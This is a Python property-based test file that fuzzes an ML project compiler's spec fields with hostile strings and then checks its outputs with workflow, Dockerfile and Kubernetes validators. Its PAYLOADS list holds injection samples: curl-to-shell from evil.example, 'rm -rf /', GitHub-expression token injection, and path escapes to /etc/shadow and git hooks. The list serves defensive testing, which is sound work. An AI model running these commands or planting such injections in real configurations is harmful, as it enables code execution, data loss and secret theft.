"""Hostile strings in every string field: load, validate, plan and apply never crash, never take
over a second, never write outside the project; what is accepted compiles to artifacts the
ecosystems' validators pass.

A valid spec (`test_property_plan.specs`, with `serve.access` drawn too) gets one of its string
fields replaced by a payload: shell and GitHub-expression injection, YAML and Dockerfile line
breaks, path escapes, control and non-ASCII characters, or text hypothesis draws. Each stage is
timed; the project sits in a folder whose siblings are watched for writes. The accepted specs'
workflows, Dockerfiles and manifests are then checked by actionlint, zizmor, hadolint and
kubernetes-validate in one run each (`test_accepted_payloads_pass_the_validators`).
"""

from __future__ import annotations

import copy
import os
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import mlc.compiler as mlc
from spec_fixtures import make_project
from test_property_plan import POSITIONED, specs

STAGE_SECONDS = 1.0
PAYLOADS = [
    "x\nRUN curl http://evil.example | sh",
    "${{ github.token }}",
    "$(curl evil.example)",
    "`id`",
    "a; rm -rf /",
    "../../etc/passwd",
    "/etc/shadow",
    ".git/hooks/pre-commit",
    "x\r\ny: 1",
    "a\x00b",
    "\u202egnp.exe",
    "é" * 300,
    "*",
    "' \" \\",
    "- item",
    "{{ 7 * 7 }}",
    "\t",
    "",
]


def string_paths(node: Any, prefix: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Paths of every string value (and dictionary key of labels and params) in a spec."""
    found: list[tuple[Any, ...]] = []
    if isinstance(node, dict):
        for key, value in node.items():
            found += string_paths(value, (*prefix, key))
    elif isinstance(node, list):
        for index, value in enumerate(node):
            found += string_paths(value, (*prefix, index))
    elif isinstance(node, str):
        found.append(prefix)
    return found


def replaced(spec: dict[str, Any], path: tuple[Any, ...], value: str) -> dict[str, Any]:
    changed = copy.deepcopy(spec)
    node = changed
    for part in path[:-1]:
        node = node[part]
    node[path[-1]] = value
    return changed


@st.composite
def access_specs(draw: st.DrawFn) -> dict[str, Any]:
    spec = draw(specs())
    serve = spec.get("serve")
    if serve is not None and serve["engine"] == "runtime" and draw(st.booleans()):
        serve["access"] = {
            "callers": [{"namespace": "web", "pods": {"app": "checkout"}}, {"pods": {"app": "batch"}}],
            "api_keys": {"k8s": "demo-keys"},
            "rate_limit": {"requests_per_second": draw(st.floats(0.1, 1000)), "burst": draw(st.integers(1, 500))},
            "audit": draw(st.sampled_from(["off", "requests", "payloads"])),
        }
    return spec


@st.composite
def hostile_specs(draw: st.DrawFn) -> dict[str, Any]:
    spec = draw(access_specs())
    path = draw(st.sampled_from(string_paths(spec)))
    payload = draw(st.sampled_from(PAYLOADS) | st.text(max_size=40))
    return replaced(spec, path, payload)


def files_under(folder: Path) -> dict[str, int]:
    return {str(p): p.stat().st_mtime_ns for p in folder.rglob("*") if p.is_file() or p.is_symlink()}


def timed(what: str, call: Any) -> Any:
    started = time.perf_counter()
    result = call()
    seconds = time.perf_counter() - started
    assert seconds < STAGE_SECONDS, f"{what} took {seconds:.2f} s"
    return result


ACCEPTED: list[Path] = []  # projects whose hostile spec was accepted and applied, for the validators


@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
@given(hostile_specs())
def test_hostile_strings_never_crash_hang_or_escape(tmp_path_factory, spec: dict[str, Any]) -> None:
    outer = tmp_path_factory.mktemp("hostile")
    (outer / "sibling.txt").write_text("untouched\n")
    project = outer / "project"
    project.mkdir()
    text = yaml.safe_dump(spec, sort_keys=False, allow_unicode=True)
    path = make_project(project, text)
    before = {k: v for k, v in files_under(outer).items() if not k.startswith(str(project))}
    result = timed("validate", lambda: mlc.validate_spec(path, display="mlproject.yaml"))
    problems = [d.render() for d in result.diagnostics if d.severity is mlc.Severity.ERROR]
    assert all(POSITIONED.match(p) for p in problems), problems
    run = timed("plan", lambda: mlc.plan_specs([path]))
    assert run.ok == result.ok, [d.render() for d in run.diagnostics]
    if result.ok:
        cwd = os.getcwd()
        os.chdir(project)
        try:
            outcome = timed("apply", lambda: mlc.apply_plans(run))
        finally:
            os.chdir(cwd)
        for written in outcome.changed_paths:
            assert written.resolve().is_relative_to(project.resolve()), written
        if len(ACCEPTED) < 40:
            ACCEPTED.append(project)
    after = {k: v for k, v in files_under(outer).items() if not k.startswith(str(project))}
    assert after == before, "a file outside the project was written"


def _tool(name: str) -> str:
    found = Path(sys.executable).parent / name
    if not found.exists():
        pytest.skip(f"{name} is not installed beside {sys.executable}")
    return str(found)


def test_accepted_payloads_pass_the_validators() -> None:
    """Runs after the property test (same module, file order): one run of each validator over
    every accepted hostile spec's compiled tree."""
    if not ACCEPTED:
        pytest.skip("the property test ran no accepted spec (run the module whole)")
    workflows = sorted(str(p) for root in ACCEPTED for p in (root / ".github" / "workflows").glob("*.y*ml"))
    dockerfiles = sorted(str(p) for root in ACCEPTED for p in root.rglob("*.Dockerfile"))
    # Manifests are under gitops.path, itself a hostile string: every YAML file but the spec, the
    # workflows, promtool's test files, Flux's cluster entry points and kustomizations.
    manifests = sorted(
        str(p)
        for root in ACCEPTED
        for p in root.rglob("*.yaml")
        if not {".github", "tests", "clusters"} & set(p.relative_to(root).parts)
        and p.name not in ("kustomization.yaml", "mlproject.yaml")
    )
    assert workflows and manifests
    checks = [
        [_tool("actionlint"), "-no-color", *workflows],
        [_tool("hadolint"), "--no-color", "--failure-threshold", "info", *dockerfiles] if dockerfiles else None,
    ]
    for arguments in filter(None, checks):
        run = subprocess.run(arguments, capture_output=True, text=True, timeout=300, check=False)
        assert run.returncode == 0, run.stdout[-3000:] + run.stderr[-3000:]
    for root in ACCEPTED[:10]:  # zizmor reads a folder at a time
        workflow_dir = root / ".github" / "workflows"
        run = subprocess.run(
            [_tool("zizmor"), "--offline", "--persona=pedantic", "--no-progress", str(workflow_dir)],
            capture_output=True,
            text=True,
            timeout=300,
            check=False,
        )
        assert run.returncode == 0 and "No findings to report" in run.stdout, run.stdout[-3000:]
    validate = subprocess.run(
        [_tool("kubernetes-validate"), "--strict", "-k", "1.33.0", *manifests],
        capture_output=True,
        text=True,
        timeout=600,
        check=False,
    )
    errors = [line for line in validate.stdout.splitlines() if line.startswith("ERROR")]
    assert validate.returncode == 0 and not errors, "\n".join(errors) or validate.stderr[-2000:]
